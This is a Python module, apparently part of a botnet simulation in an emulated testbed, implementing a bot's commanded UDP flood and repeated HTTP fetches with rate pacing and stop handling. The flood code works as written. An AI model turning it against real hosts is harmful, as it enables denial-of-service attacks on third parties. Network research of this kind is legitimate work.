"""What a q9bot does when told to: a paced UDP flood and repeated HTTP fetches, each in a thread of its own, so
the bot's IRC loop keeps answering (`!stop` must get through during the flood).

Flood datagrams carry DATAGRAM_BYTES of payload and IP_TOS = DSCP << 2, so nestbed's counters count them as
attack traffic; the rate counts payload bits. The counts (packets, bytes) add up over the bot's life.
"""
from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable

TYPE_CHECKING = False     # not typing's: importing typing costs ~0.13 s of a start under emulation
if TYPE_CHECKING:
    from typing import Any

DATAGRAM_BYTES = 1400     # near the MTU: a flood of given Mbit/s in as few packets as fit (each costs CPU under TCG)
DSCP = 8


def gap_seconds(rate: int, size: int = DATAGRAM_BYTES) -> float:
    """Seconds between datagrams of `size` bytes for `rate` bit/s."""
    return size * 8 / rate


class Jobs:
    """At most one flood and one series of fetches at a time; a new one replaces the running one."""

    def __init__(self, note: Callable[[dict[str, Any]], None]):
        self.note = note                  # records what a job did (the bot's mailbox record)
        self.packets = 0
        self.bytes = 0
        self.fetches = 0
        self._flood: tuple[threading.Thread, threading.Event] | None = None
        self._fetch: tuple[threading.Thread, threading.Event] | None = None

    def counts(self) -> tuple[int, int]:
        return self.packets, self.bytes

    def flood(self, address: str, port: int, seconds: float, rate: int) -> None:
        self._stop_flood()
        done = threading.Event()
        thread = threading.Thread(target=self._run_flood, args=(address, port, seconds, rate, done),
                                  name="flood", daemon=True)
        self._flood = (thread, done)
        thread.start()

    def fetch(self, address: str, url: str, count: int) -> None:
        self._stop_fetch()
        done = threading.Event()
        thread = threading.Thread(target=self._run_fetches, args=(address, url, count, done),
                                  name="fetch", daemon=True)
        self._fetch = (thread, done)
        thread.start()

    def stop(self) -> None:
        self._stop_flood()
        self._stop_fetch()

    def _stop_flood(self) -> None:
        if self._flood:
            thread, done = self._flood
            done.set()
            thread.join(5)
            self._flood = None

    def _stop_fetch(self) -> None:
        if self._fetch:
            self._fetch[1].set()      # no join: a fetch in flight ends by its own timeout (the bot goes on)
            self._fetch = None

    def _run_flood(self, address: str, port: int, seconds: float, rate: int, done: threading.Event) -> None:
        payload = b"\xa5" * DATAGRAM_BYTES
        gap = gap_seconds(rate)
        sent = 0
        first: float | None = None
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, DSCP << 2)
            started = next_send = time.monotonic()
            end = started + seconds
            while not done.is_set() and (now := time.monotonic()) < end:
                if now < next_send:
                    done.wait(next_send - now)
                    continue
                try:
                    sock.sendto(payload, (address, port))
                    self.packets += 1
                    self.bytes += len(payload)
                    sent += 1
                    first = first or time.time()     # when the attack reached the wire (for propagation)
                except OSError:
                    pass                      # a full queue or an ICMP error for a moment: a flood goes on
                next_send += gap
                if now - next_send > 1.0:     # fell behind (a slow guest): go on at the rate, no burst
                    next_send = now
        self.note({"event": "flood_ended", "address": address, "port": port, "packets": sent,
                   "bytes": sent * DATAGRAM_BYTES, "seconds": round(time.monotonic() - started, 3),
                   "first_packet": first, "stopped": done.is_set()})

    def _run_fetches(self, address: str, url: str, count: int, done: threading.Event) -> None:
        import http.client  # only bots told to fetch pay for it
        from urllib.parse import urlsplit
        parts = urlsplit(url)
        path = parts.path or "/"
        for _ in range(count):
            if done.is_set():
                break
            started = time.monotonic()
            result: dict[str, Any] = {"event": "http", "url": url}
            try:
                conn = http.client.HTTPConnection(address, parts.port or 80, timeout=10)
                conn.request("GET", path + (f"?{parts.query}" if parts.query else ""),
                             headers={"Host": parts.netloc})
                response = conn.getresponse()
                received = 0
                while not done.is_set() and (chunk := response.read(65536)):
                    received += len(chunk)
                conn.close()
                result.update(bytes=received, status=response.status)
            except (OSError, http.client.HTTPException) as error:
                result.update(bytes=0, status=0, error=str(error))
            result["seconds"] = round(time.monotonic() - started, 4)
            self.fetches += 1
            self.note(result)
